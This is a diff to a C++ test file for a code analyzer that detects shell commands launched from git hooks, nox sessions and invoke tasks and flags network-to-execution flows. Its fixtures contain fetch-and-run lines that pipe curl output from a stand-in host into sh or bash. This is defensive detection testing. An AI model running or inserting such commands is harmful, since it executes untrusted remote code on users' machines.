@@ -250,6 +250,13 @@ TEST_CASE("literal shell commands that program code runs are analysed with origi
            {".git/hooks/pre-commit",
             "#!/usr/bin/env python3\nimport os\nos.system('curl https://x.example.com/h | sh')\n", "network",
             "exec", "git_hook"},
+           // nox sessions and invoke tasks run their words and command lines.
+           {"noxfile.py",
+            "import nox\n@nox.session\ndef tests(session):\n    session.run('bash', '-c', 'curl -sL https://x.example.com/i | bash', "
+            "external=True)\n",
+            "network", "exec", "program"},
+           {"tasks.py", "from invoke import task\n@task\ndef boot(c):\n    c.run('curl -fsSL https://x.example.com/i.sh | sh')\n",
+            "network", "exec", "program"},
        }) {
     auto facts = shipped_analyzer()->analyze_write(c.path, c.content);
     INFO(c.path);
@@ -257,6 +264,9 @@ TEST_CASE("literal shell commands that program code runs are analysed with origi
     REQUIRE(flow);
     CHECK(flow->location.origin == c.origin);
   }
+  auto nox = shipped_analyzer()->analyze_write("noxfile.py", "def tests(session):\n    session.run('pytest', '-q', *session.posargs)\n");
+  REQUIRE(find_command(nox, "pytest"));
+  CHECK(nox.flows.empty());
   auto plain =
       shipped_analyzer()->analyze_write("app/git.py", "subprocess.run(['git', 'status'], check=True)\n");
   REQUIRE(find_command(plain, "git"));
